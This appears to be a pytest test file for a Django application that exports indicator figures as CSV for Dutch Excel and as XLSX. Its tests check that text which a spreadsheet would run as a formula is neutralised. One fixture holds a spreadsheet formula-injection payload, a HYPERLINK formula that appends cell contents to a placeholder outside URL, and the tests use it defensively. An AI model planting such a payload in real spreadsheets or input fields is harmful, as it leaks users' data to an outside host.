"""Exporting an indicator's figures as CSV (for Dutch Excel) and XLSX, formulas neutralised."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ambitions.periods import Frequency, Period
from ambitions.services.entry import CellInput, save_cell
from ambitions.services.export import neutralise
from tests.measures import Measures

EVIL = '=HYPERLINK("https://example.invalid/?leak="&A1,"Klik")'


@pytest.fixture
def client_for(english_client_for):
    return english_client_for


@pytest.fixture
def figures(measures: Measures) -> Measures:
    m, w = measures, measures.world
    save_cell(w.contributor_a, m.share, w.unit_a, m.period, CellInput(numerator="1", denominator="2", comment=EVIL))
    save_cell(w.lead_b, m.share, w.unit_b, m.period, CellInput(numerator="9", denominator="98", comment="@SUM(1+1)"))
    save_cell(w.contributor_a, m.share, w.unit_a, m.period.previous, CellInput(numerator="12,5", denominator="50"))
    return m


def export_url(m: Measures, fmt: str, indicator=None, **query) -> str:
    address = reverse("ambitions:indicator_export", args=[m.world.chain.slug, (indicator or m.share).pk, fmt])
    return address + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def read_csv(response) -> list[list[str]]:
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte order mark, so Excel reads the accents right"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Gewoon commentaar", "Gewoon commentaar"),
        ("", ""),
    ],
)
def test_it_neutralises_text_that_a_spreadsheet_would_run(text, expected):
    assert neutralise(text) == expected


def test_it_exports_csv_for_dutch_excel(figures, client_for):
    m, w = figures, figures.world
    response = client_for(w.viewer).get(export_url(m, "csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="zsm-binnen-24-uur-afgedaan-')
    rows = read_csv(response)
    assert rows[0] == [
        "Level",
        "Period",
        "Organisation",
        "Unit",
        "Value",
        "Numerator",
        "Denominator",
        "Units reported",
        "Late",
        "Needs follow-up",
        "Comment",
    ]
    units = [row for row in rows[1:] if row[0] == "unit"]
    chain = [row for row in rows[1:] if row[0] == "chain"]
    assert units[0][:7] == ["unit", m.period.previous.slug, "Politie", "Eenheid Amsterdam", "25", "12,5", "50"]
    late = "yes" if timezone.localdate() > m.period.end + timedelta(days=10) else "no"
    assert units[0][8] == "yes"  # the month before last: its deadline has passed
    assert units[1][8] == late
    assert [row[1] for row in chain] == [m.period.previous.slug, m.period.slug]
    # The chain's ratio: (1 + 9) / (2 + 98) = 10%.
    assert chain[1][4:8] == ["10", "10", "100", "2"]


def test_it_neutralises_formulas_in_the_csv(figures, client_for):
    m, w = figures, figures.world
    rows = read_csv(client_for(w.viewer).get(export_url(m, "csv")))
    comments = {row[3]: row[10] for row in rows[1:] if row[0] == "unit" and row[1] == m.period.slug}
    assert comments["Eenheid Amsterdam"] == "'" + EVIL
    assert comments["Parket Amsterdam"] == "'@SUM(1+1)"


def test_it_exports_xlsx_with_figures_and_chain_sheets(figures, client_for):
    m, w = figures, figures.world
    response = client_for(w.viewer).get(export_url(m, "xlsx"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Figures", "Chain"]
    figures_sheet = list(book["Figures"].iter_rows(values_only=True))
    assert figures_sheet[0][:4] == ("Period", "Organisation", "Unit", "Value")
    first = figures_sheet[1]
    assert first[:3] == (m.period.previous.slug, "Politie", "Eenheid Amsterdam")
    assert (Decimal(str(first[3])), Decimal(str(first[4])), Decimal(str(first[5]))) == (25, Decimal("12.5"), 50)
    comments = {row[2]: row[8] for row in figures_sheet[1:] if row[0] == m.period.slug}
    # A quote in front: the cell is text, not a formula (openpyxl would store "=..." as one).
    assert comments["Eenheid Amsterdam"] == "'" + EVIL
    assert all(cell.data_type != "f" for row in book["Figures"].iter_rows() for cell in row)
    chain = list(book["Chain"].iter_rows(values_only=True))
    assert chain[0] == ("Period", "Value", "Numerator", "Denominator", "Units reported", "Late")
    assert chain[2][0] == m.period.slug and Decimal(str(chain[2][1])) == 10


def test_it_exports_the_pages_window_or_every_period(figures, client_for):
    m, w = figures, figures.world
    old = Period.containing(timezone.localdate(), Frequency.MONTH).shifted(-30)
    save_cell(w.contributor_a, m.share, w.unit_a, old, CellInput(numerator="1", denominator="4"))
    client = client_for(w.viewer)

    window = {row[1] for row in read_csv(client.get(export_url(m, "csv")))[1:]}
    assert old.slug not in window and m.period.slug in window

    everything = client.get(export_url(m, "csv", alles=1))
    assert old.slug in {row[1] for row in read_csv(everything)[1:]}
    assert "-all.csv" in everything["Content-Disposition"]

    earlier = client.get(export_url(m, "csv", tot=old.shifted(1).slug))
    periods = {row[1] for row in read_csv(earlier)[1:]}
    assert periods == {old.slug}


def test_it_exports_a_sum_without_numerator_and_denominator(measures, client_for):
    m, w = measures, measures.world
    save_cell(w.contributor_a, m.count, w.unit_a, m.period, CellInput(value="120"))
    rows = read_csv(client_for(w.viewer).get(export_url(m, "csv", m.count)))
    assert rows[1][:7] == ["unit", m.period.slug, "Politie", "Eenheid Amsterdam", "120", "", ""]
    assert rows[2][:8] == ["chain", m.period.slug, "", "", "120", "", "", "1"]


def test_it_answers_404_for_another_format_or_a_forged_indicator(measures, client_for):
    m, w = measures, measures.world
    client = client_for(w.viewer)
    assert client.get(export_url(m, "pdf")).status_code == 404
    assert client.get(export_url(m, "CSV")).status_code == 404
    assert client.get(export_url(m, "csv", m.other_indicator)).status_code == 404
    assert client_for(w.outsider).get(export_url(m, "csv")).status_code == 404
